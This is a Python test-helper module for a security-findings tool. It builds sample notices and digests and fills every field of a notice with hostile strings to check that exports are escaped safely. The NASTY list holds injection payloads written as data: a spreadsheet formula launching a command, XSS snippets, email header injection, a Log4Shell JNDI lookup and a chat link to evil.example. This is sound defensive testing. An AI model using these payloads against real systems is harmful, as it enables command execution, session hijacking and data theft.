"""Notices for tests."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from tests.shared_data import shared
from tests.store.samples import NOON, detection, failed_check

from nephoscope.export.notice import Notice
from nephoscope.model.finding import Actor, ResourceRef, Status
from nephoscope.store.findings import StoredFinding

LATER = NOON + timedelta(minutes=5)


def stored(finding=None, status=Status.OPEN, revision=1, **more):
    """A finding as the ledger keeps it."""
    finding = finding or detection()
    return StoredFinding(finding, status, revision, finding.time, finding.time, **more)


def notice(what="opened", finding=None, number=1, **more):
    """A notice of a finding's opening, or of what else became of it."""
    status = Status.RESOLVED if what == "resolved" else Status.OPEN
    values = {"why": "found", "previous": "open" if what == "resolved" else "", "route": "all"}
    return Notice(f"{number:032x}", what, stored(finding, status, number), LATER, **(values | more))


def digest(count):
    """A digest of so many findings."""
    others = tuple(notice(finding=failed_check(f"bucket-{number}"), number=number + 1) for number in range(count))
    return replace(others[0], id="d" * 32, what="digest", others=others)


def hostile(text):
    """A notice in whose every field this text stands."""
    finding = detection(
        rule=text,
        title=text,
        reason=text,
        subject=(text,),
        resource=ResourceRef(text, text, text, text),
        actor=Actor(*[text] * 8),
        tags=(text,),
        detail={"fix": text, "why": text},
        time=datetime(2026, 5, 1, tzinfo=UTC),
    )
    return Notice("a" * 32, "opened", stored(finding), LATER, why=text, owner=text)


NASTY = (
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</dd></dl><h1>",
    "Subject\r\nBcc: everyone@example.com\r\n\r\nbody",
    "a|b=c\\d",
    "line one\nline two",
    "<!channel> <@U123> <https://evil.example|click>",
    "@everyone [link](https://evil.example) ![x](y) `` ``` ````",
    "${jndi:ldap://evil.example/a} {{7*7}} {% raw %}",
    "\x1b[31mred\x1b[0m \x07 \x00",
    "\u202eright to left\u202c \u2028 \ufeff",
    "中文 \U0001f600 ﷽",
    "<para><b>unclosed & <font color=red>",
    "x" * 100_000,
    " ",
    "",
)


def naughty():
    """Every hostile string of the shared list, or of our own where it is absent."""
    return [*NASTY, *json.loads((shared("naughty_strings") / "blns.json").read_text())]
